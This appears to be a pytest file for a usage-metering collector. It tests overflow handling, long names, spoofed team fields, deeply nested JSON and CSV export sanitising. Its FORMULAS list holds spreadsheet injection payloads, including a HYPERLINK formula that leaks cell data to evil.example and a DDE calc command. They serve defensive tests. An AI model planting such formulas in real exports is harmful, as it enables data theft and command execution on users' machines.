"""Issue 14, item 11: the collector survives its own users. A real collector on loopback, real client ledgers,
the real sync client; the one stand-in is a middleware playing a stricter (older) collector."""

from __future__ import annotations

import csv
import io
import json

import pytest
from aiohttp import web

from agentmeter.collector import aggregates, engine
from agentmeter.core.models import RequestRecord, Usage
from agentmeter.ledger import open_ledger
from conftest import run_cli

from .helpers import BASE_MS, Client, Collector, request

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tleading-tab",
    "\rleading-cr",
]


@pytest.fixture
def collector(collector_db):
    c = Collector(collector_db).start()
    yield c
    c.close()


def push_item(key: str, **over) -> dict:
    item = {
        "key": key,
        "day": "2026-11-18",
        "agent": "claude",
        "provider": "anthropic",
        "model": "claude-sonnet-4-5",
        "repo": "github.com/acme/app",
        "subscription": False,
        "requests": 3,
        "input_tokens": 10,
        "output_tokens": 5,
        "cost_usd": 0.5,
    }
    item.update(over)
    return item


def push(*items, identity: dict | None = None, **extra) -> dict:
    return {
        "schema": "agentmeter.push/1",
        "device_id": "device-0001",
        "identity": identity or {},
        "rollups": list(items),
        **extra,
    }


def report(c: Collector, by: str) -> tuple[int, dict]:
    admin = c.token("admin@example.com", admin=True)
    status, body, _ = request(f"{c.url}/v1/report?by={by}", token=admin)
    return status, body


def test_huge_numbers_are_skipped_and_team_reports_keep_working(collector):
    for n, dev in enumerate(("mallory@example.com", "eve@example.com")):
        token = collector.token(dev, team="payments")
        body = push(push_item(f"{n}" * 64, requests=2**62, output_tokens=2**62), push_item(f"{n + 5}" * 64))
        status, got, _ = request(f"{collector.url}/v1/push", method="POST", token=token, body=body)
        assert status == 200, got
        assert got["accepted"]["rollups"] == 1  # the good item of the same push is stored
        assert [r["field"] for r in got["rejected"]] == ["rollups[0].requests"]
    for by in ("team", "developer", "day", "model"):
        status, body = report(collector, by)
        assert status == 200, body  # was: 500, integer overflow, for every team report
    assert body["totals"]["requests"] == 6


def test_sums_of_old_rows_cannot_overflow(collector):
    """Rows an older collector accepted (up to 2**62 each) still add up, in floating point, without a 500."""
    collector.token("x@example.com")  # the store exists
    conn = engine.connect(collector.db)
    for i in range(3):
        conn.execute(
            "INSERT INTO rollups (developer, item_key, device_id, team, cost_center, day, agent, provider, "
            "model, repo, subscription, requests, output_tokens, cost_usd, cost_by_type, received_at) VALUES "
            "('old@example.com', ?, 'device-0001', 't', '', '2026-11-18', 'claude', 'anthropic', 'm', '', 0, "
            "?, ?, 1.0, '{}', 1)",
            (f"{i}" * 64, 2**62, 2**62),
        )
    aggregates.rebuild(conn)  # what migration c018 does with the rows an older collector stored
    conn.close()
    status, body = report(collector, "team")
    assert status == 200 and body["totals"]["requests"] >= 2**62  # saturates near 2**63 instead of failing


def test_long_branch_and_model_names_never_block_a_sync(collector, tmp_path):
    dev = Client(tmp_path / "dev", "alice@example.com", token=collector.token("alice@example.com"))
    dev.add_usage(3, day=0)
    long_branch = "feature/" + "b" * 252  # 260 characters: valid in git
    huge_model = "m" * (1024 * 1024)  # echoed back by an upstream
    lg = open_ledger(dev.path)
    lg.create_session(
        {
            "id": "s-long",
            "token_hash": "h-long",
            "agent": "claude",
            "repo": "github.com/acme/app",
            "branch": long_branch,
            "started_at": BASE_MS,
            "developer": "alice@example.com",
        }
    )
    lg.insert_request(
        RequestRecord(
            request_id="r-huge",
            session_id="s-long",
            started_at_ms=BASE_MS + 5,
            provider="anthropic",
            api="messages",
            method="POST",
            path="/v1/messages",
            model_requested=huge_model,
            model_used=huge_model,
            stream=True,
            status="ok",
            http_status=200,
            usage=Usage(input_tokens=10, output_tokens=2),
            cost_usd=0.1,
            agent="claude",
            repo="github.com/acme/app",
        )
    )
    lg.close()

    first = dev.sync(collector.url)
    assert first["ok"], first  # was: 413 (the model) and 422 (the branch), at every sync, for good
    assert first["pushed"]["sessions"] == 2 and first["pushed"]["rollups"] == 2
    again = dev.sync(collector.url)
    assert again["ok"] and again["pushed"] == {"rollups": 0, "sessions": 0, "deleted": 0, "plan_windows": 0}
    conn = engine.connect(collector.db)
    branch = conn.execute("SELECT branch FROM sessions WHERE session_id = 's-long'").fetchone()[0]
    models = [r[0] for r in conn.execute("SELECT model FROM rollups")]
    conn.close()
    assert len(branch) == 256 and branch.startswith("feature/bbb")
    assert max(len(m) for m in models) == 256
    assert collector.totals()["requests"] == 4


def _stricter(marker: bytes):
    """A collector (an older or stricter version) that refuses any push with `marker` in it, for good."""

    @web.middleware
    async def refuse(req: web.Request, handler):
        if req.path == "/v1/push" and marker in await req.read():
            return web.json_response({"error": "invalid", "message": "repo: not allowed", "field": "repo"}, status=422)
        return await handler(req)

    return refuse


def test_a_permanently_refused_item_is_skipped_and_never_blocks_the_rest(tmp_path, make_collector_db):
    c = Collector(make_collector_db("strict"), middlewares=[_stricter(b"poison-repo")]).start()
    try:
        dev = Client(tmp_path / "dev", "alice@example.com", token=c.token("alice@example.com"))
        for day in range(12):
            dev.add_usage(2, day=day, repo="poison-repo" if day == 7 else "github.com/acme/app")
        first = dev.sync(c.url)
        assert first["ok"], first
        skipped = first["skipped"]
        assert {s["kind"] for s in skipped} == {"rollup", "session"} and all(s["day"] for s in skipped)
        assert len(skipped) == 2 and all("422" in s["reason"] for s in skipped)
        assert first["pushed"]["rollups"] == 11 and c.totals()["requests"] == 22
        assert "skipped" in dev.state()["last_skipped"]
        dev.add_usage(1, day=12)
        second = dev.sync(c.url)  # the refused items are not sent again: nothing holds new usage back
        assert second["ok"] and not second["skipped"] and second["pushed"]["rollups"] == 1
    finally:
        c.close()


def test_team_and_cost_centre_are_the_tokens_not_the_pushs(collector, tmp_path):
    token = collector.token("mallory@example.com", team="payments")  # the admin set no cost centre
    body = push(
        push_item("a" * 64, team="search", cost_center="CC-SEARCH"),
        identity={"developer": "mallory@example.com", "team": "search", "cost_center": "CC-SEARCH"},
    )
    assert request(f"{collector.url}/v1/push", method="POST", token=token, body=body)[0] == 200
    status, by_team = report(collector, "team")
    assert [r["key"] for r in by_team["rows"]] == ["payments"]
    status, by_cc = report(collector, "cost_center")
    assert [r["key"] for r in by_cc["rows"]] == [""]  # not the CC-SEARCH the push claimed

    # A token without a team cannot pick one, nor whose team caps it gets.
    loner = collector.token("loner@example.com")
    body = push(push_item("b" * 64, team="payments"), identity={"team": "payments"})
    assert request(f"{collector.url}/v1/push", method="POST", token=loner, body=body)[0] == 200
    status, caps, _ = request(f"{collector.url}/v1/caps", token=loner)
    assert status == 200 and caps["team"] is None
    status, by_team = report(collector, "team")
    assert {r["key"]: r["requests"] for r in by_team["rows"]} == {"payments": 3, "": 3}


def test_token_add_sets_the_cost_centre(collector_db):
    db = collector_db
    r = run_cli(
        "collector",
        "token",
        "add",
        "--db",
        str(db),
        "--developer",
        "a@example.com",
        "--team",
        "payments",
        "--cost-center",
        "CC-7",
        "--json",
    )
    assert r.returncode == 0, r.stderr
    assert json.loads(r.stdout)["cost_center"] == "CC-7"
    listed = json.loads(run_cli("collector", "token", "list", "--db", str(db), "--json").stdout)
    assert listed["tokens"][0]["cost_center"] == "CC-7"
    c = Collector(db).start()
    try:
        token = json.loads(r.stdout)["token"]
        body = push(push_item("c" * 64, cost_center="CC-OTHER"), identity={"cost_center": "CC-OTHER"})
        assert request(f"{c.url}/v1/push", method="POST", token=token, body=body)[0] == 200
        _status, by_cc = report(c, "cost_center")
        assert [r["key"] for r in by_cc["rows"]] == ["CC-7"]
    finally:
        c.close()


@pytest.mark.parametrize(
    "raw",
    [
        b"[" * 200_000 + b"]" * 200_000,
        b'{"schema": "agentmeter.push/1", "device_id": "device-0001", "rollups": '
        + b"[" * 100_000
        + b"]" * 100_000
        + b"}",
        b'{"a": ' * 50_000 + b"1" + b"}" * 50_000,
    ],
)
def test_malformed_bodies_are_400_never_500(collector, raw):
    token = collector.token("a@example.com")
    status, body, _ = request(f"{collector.url}/v1/push", method="POST", token=token, body=raw)
    assert 400 <= status < 500 and status != 413, (status, body)
    assert request(f"{collector.url}/v1/health")[0] == 200


def _assert_neutral(text: str) -> None:
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    for f in FORMULAS:
        assert f not in cells, f"formula cell {f!r} left as is"
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _number(c))]


def _number(c: str) -> bool:
    try:
        float(c)
    except ValueError:
        return False
    return True


def test_formula_prefixes_are_neutralised_in_focus_and_local_csv(collector, tmp_path, home):
    token = collector.token("a@example.com")
    items = [push_item(f"{i:x}" * 64 if i < 10 else "f" * 64, repo=f, model=f, agent=f) for i, f in enumerate(FORMULAS)]
    status, got, _ = request(f"{collector.url}/v1/push", method="POST", token=token, body=push(*items))
    assert status == 200 and got["accepted"]["rollups"] == len(FORMULAS), got
    admin = collector.token("admin@example.com", admin=True)
    status, text, _ = request(f"{collector.url}/v1/export/focus?format=csv", token=admin)
    assert status == 200 and "'=HYPERLINK" in text
    _assert_neutral(text)

    # The developer's own exports: a repo or branch name is just as much the author's choice.
    home.mkdir(parents=True, exist_ok=True)
    lg = open_ledger(home / "ledger.db")
    lg.create_session(
        {
            "id": "s1",
            "token_hash": "h1",
            "agent": "claude",
            "repo": FORMULAS[0],
            "branch": FORMULAS[1],
            "started_at": BASE_MS,
        }
    )
    for i, f in enumerate(FORMULAS):
        lg.insert_request(
            RequestRecord(
                request_id=f"r{i}",
                session_id="s1",
                started_at_ms=BASE_MS + i,
                provider="anthropic",
                api="messages",
                method="POST",
                path="/v1/messages",
                model_requested=f,
                model_used=f,
                stream=True,
                status="ok",
                http_status=200,
                usage=Usage(input_tokens=10, output_tokens=2),
                cost_usd=0.1,
                agent=f,
                repo=f,
                branch=f,
            )
        )
    lg.close()
    for args in (
        ("export", "--format", "csv", "--since", "2026-11-01"),
        ("report", "--by", "repo", "--format", "csv", "--since", "2026-11-01"),
        ("report", "--by", "model", "--format", "csv", "--since", "2026-11-01"),
    ):
        r = run_cli(*args)
        assert r.returncode == 0, r.stderr
        assert "'=HYPERLINK" in r.stdout, args
        _assert_neutral(r.stdout)
